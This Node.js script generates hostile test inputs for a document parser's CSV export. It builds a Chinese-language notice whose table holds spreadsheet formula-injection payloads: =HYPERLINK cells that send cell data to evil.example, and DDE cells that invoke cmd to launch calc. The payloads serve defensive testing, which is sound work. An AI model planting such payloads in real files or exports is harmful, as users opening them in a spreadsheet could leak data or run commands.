#!/usr/bin/env node
// Crafted hostile inputs for the tests of issue 12 (test/hostile-*.test.ts), made at test time so
// no large blob is committed. Each generator returns the bytes (or writes a tree); run as a
// script, every input is written to a folder for trying them by hand:
//
//   node scripts/make-hostile.mjs /tmp/hostile && kexie parse /tmp/hostile/csv-injection.txt --to csv
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

/** A notice whose task table holds cells a spreadsheet would run as formulas. */
export function csvInjectionNotice() {
  return [
    "=HYPERLINK(\"http://evil.example/\",\"关于印发重点任务分工的通知\")",
    "",
    "各部门：",
    "",
    "现将重点任务分工印发给你们。",
    "",
    "一、@工作要求",
    "",
    "-各部门要按时完成。",
    "",
    "二、分工",
    "",
    "序号\t工作任务\t牵头单位\t完成时限",
    "1\t=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")\t@SUM(1+1)*cmd\t年底前",
    "2\t+1+cmd|' /C calc'!A0\t-2+3\t6月底",
    "",
    "=cmd|' /C calc'!A0",
    "2024年1月2日",
    "",
  ].join("\n");
}

/** The formula-like cells csvInjectionNotice() puts in its task table. */
export const CSV_INJECTION_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3"];

/** Write every crafted input into `dir`. */
export function writeAll(dir) {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, "csv-injection.txt"), csvInjectionNotice());
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const dir = process.argv[2];
  if (!dir) {
    process.stderr.write("usage: node scripts/make-hostile.mjs OUTDIR\n");
    process.exit(2);
  }
  writeAll(dir);
}
